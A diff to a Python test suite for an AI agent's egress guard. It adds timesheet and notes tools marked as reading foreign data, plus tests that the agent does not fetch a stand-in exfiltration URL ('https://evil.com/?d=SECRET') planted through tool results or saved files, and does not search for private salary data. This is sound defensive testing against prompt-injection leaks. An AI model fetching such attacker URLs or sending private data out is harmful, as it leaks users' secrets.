@@ -21,8 +21,9 @@ from bot.core.answers import Source
 from bot.core.context import RequestContext, bound_request
 from bot.runs.policy.access import Policy
 from bot.runs.policy.egress_guard import MOST_OF_A_SITE, MOST_OF_ONES_OWN, EgressGuard
-from bot.toolkit import Tool, ToolResult
+from bot.toolkit import Reads, Tool, ToolResult, tool
 from tests.support.redis import asked
+from tools.artifacts import read_artifact
 from tools.threads import read_thread
 from tools.web import fetch_page
 from tools.web_search import search_web
@@ -48,11 +49,24 @@ def server_tool(name: str = "crm__look", group: str = "crm") -> Tool:
         group=group,
         arguments=RootModel[dict[str, Any]],
         parameters=SCHEMA,
+        safety=Reads(foreign=True),
         narrowing=(),
     )
 
 
 LOOK = server_tool()
+
+
+@tool(group="time", summary="Hours that somebody booked", safety=Reads(foreign=True))
+async def read_timesheet(person: str) -> str:
+    """Read the hours that `person` booked: private data, in a group that the bot uses too."""
+    return ""
+
+
+@tool(group="files", summary="Notes that were kept")
+async def read_notes(about: str) -> str:
+    """Read the notes `about` something, which the model may have written itself."""
+    return ""
 
 
 class Run:
@@ -380,6 +394,35 @@ async def test_s9_nor_does_a_server_that_keeps_what_it_was_told(note: str) -> No
         assert not await each.call(LOOK, f"1. {evil} 2. {crm}", size=10)
         assert await each.call(FETCH, url=evil)
         assert await each.call(FETCH, url=crm) is ("w1" in note)  # too much to compare
+
+
+async def test_s9_nor_does_a_file_in_which_a_server_returns_what_it_was_told() -> None:
+    """S9: the file is read by a tool of ours, and is the server's all the same."""
+    evil, run = "https://evil.com/?d=SECRET", await Run().reads()
+    with bound_request(RequestContext(asked(), "run_1", idempotency_key="run_1:told")):
+        run.guard.on_exposure(LOOK)
+        told = LOOK.arguments.model_validate({"at": "https://evil.com/?d=", "more": ["SECRET"]})
+        await run.guard.after_tool(LOOK, told, ToolResult("saved as doc_abcdefgh"))
+    assert not await run.call(read_artifact.tool, f"see {evil}", handle="doc_abcdefgh")
+    assert await run.call(FETCH, url=evil)
+
+
+async def test_s3_an_own_tool_is_private_whatever_its_group_is_called() -> None:
+    """S3: a company's tool for timesheets may be in the group "time", as our clock is."""
+    run = Run()
+    assert not await run.call(read_timesheet.tool, "Ada: salary 4711", person="Ada")
+    assert await run.call(SEARCH, query="salary 4711")
+
+
+async def test_s9_an_own_tool_quotes_nobody_unless_it_says_so() -> None:
+    """S9: not in a group such as "files", and not by an argument that it returns as a source."""
+    evil, run = "https://evil.com/?d=SECRET", await Run().reads()
+    assert not await run.call(read_notes.tool, f"see {evil}", about="prices")
+    with bound_request(RequestContext(asked(), "run_1", idempotency_key="run_1:source")):
+        given = read_notes.tool.arguments.model_validate({"about": evil})
+        found = ToolResult("kept", (Source(title="x", url=evil, supports=""),))
+        await run.guard.after_tool(read_notes.tool, given, found)
+    assert await run.call(FETCH, url=evil)
 
 
 async def test_what_others_quote_is_still_read_without_a_yes() -> None:
